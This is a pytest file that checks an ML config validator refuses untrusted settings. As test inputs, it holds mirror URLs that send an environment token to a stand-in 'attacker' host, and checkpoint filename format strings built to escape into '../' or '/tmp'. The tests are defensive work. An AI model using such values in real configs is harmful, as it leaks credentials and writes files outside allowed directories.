"""What a config from elsewhere may not name: addresses, connections, ways out of its directory."""

from pathlib import Path

import pytest
from lightning.pytorch.loggers import Logger
from omegaconf import OmegaConf

from nnlab.config import build, check_config


def node(**entries):
    return OmegaConf.create(entries)


IMAGES = {"mirrors": ["https://mirror/"], "train_images": "images"}


@pytest.mark.parametrize(
    "entries",
    [
        {"data": {**IMAGES, "mirrors": ["https://attacker/${oc.env:TOKEN}/"]}},
        {"data": {**IMAGES, "mirrors": "${theirs}"}, "theirs": ["https://attacker/"]},
        {"data": {**IMAGES, "train_images": "${oc.env:TOKEN}"}},
        {"data": "${theirs}", "theirs": {**IMAGES, "train_images": "${oc.env:TOKEN}"}},
    ],
)
def test_no_variable_is_sent_over_the_network(monkeypatch, entries: dict) -> None:
    check_config(node(data=IMAGES, seed="${oc.decode:'1'}"))
    monkeypatch.setenv("TOKEN", "s3cr3t")
    with pytest.raises(ValueError, match=r"data\.\w+ must be written out") as caught:
        check_config(OmegaConf.create(entries))
    assert "s3cr3t" not in str(caught.value)


@pytest.mark.parametrize("name", ["WandbLogger", "mlflow.MLFlowLogger", "comet.CometLogger"])
def test_a_logger_that_sends_must_be_trusted_by_name(monkeypatch, name: str) -> None:
    theirs = node(_target_=f"lightning.pytorch.loggers.{name}", no_such=1)
    with pytest.raises(
        ValueError, match=r"must be a logger that sends nothing .* if you"
    ) as caught:
        build(theirs, Logger, save_dir=".")
    monkeypatch.setenv("NNLAB_TRUSTED_PACKAGES", str(caught.value).rpartition("=")[2])
    with pytest.raises(ValueError, match="Logger: "):  # its package is not there
        build(theirs, Logger, save_dir=".")


def test_loggers_that_stay_on_this_machine_are_built(tmp_path: Path) -> None:
    local = node(_target_="lightning.pytorch.loggers.CSVLogger")
    assert build(local, Logger, save_dir=tmp_path).save_dir == str(tmp_path)


@pytest.mark.parametrize(
    ("filename", "allowed"),
    [
        ("best", True),
        ("{epoch}-{val/loss:.3f}-{step:06d}", True),
        ("{epoch.__module__!s:.>2.0}/{step}", False),  # ../7
        ("{epoch.__module__!s:/>1.0}tmp", False),  # /tmp
        ("{epoch[0]}", False),
        ("{epoch:{step}}", False),
        ("{:.>2.0}", False),
    ],
)
def test_the_name_of_a_checkpoint_is_no_way_out(filename: str, allowed: bool) -> None:
    cfg = node(callbacks={"mine": {"filename": filename}})
    if allowed:
        check_config(cfg)
    else:
        with pytest.raises(
            ValueError, match=r"callbacks\.mine\.filename must name metrics plainly"
        ):
            check_config(cfg)
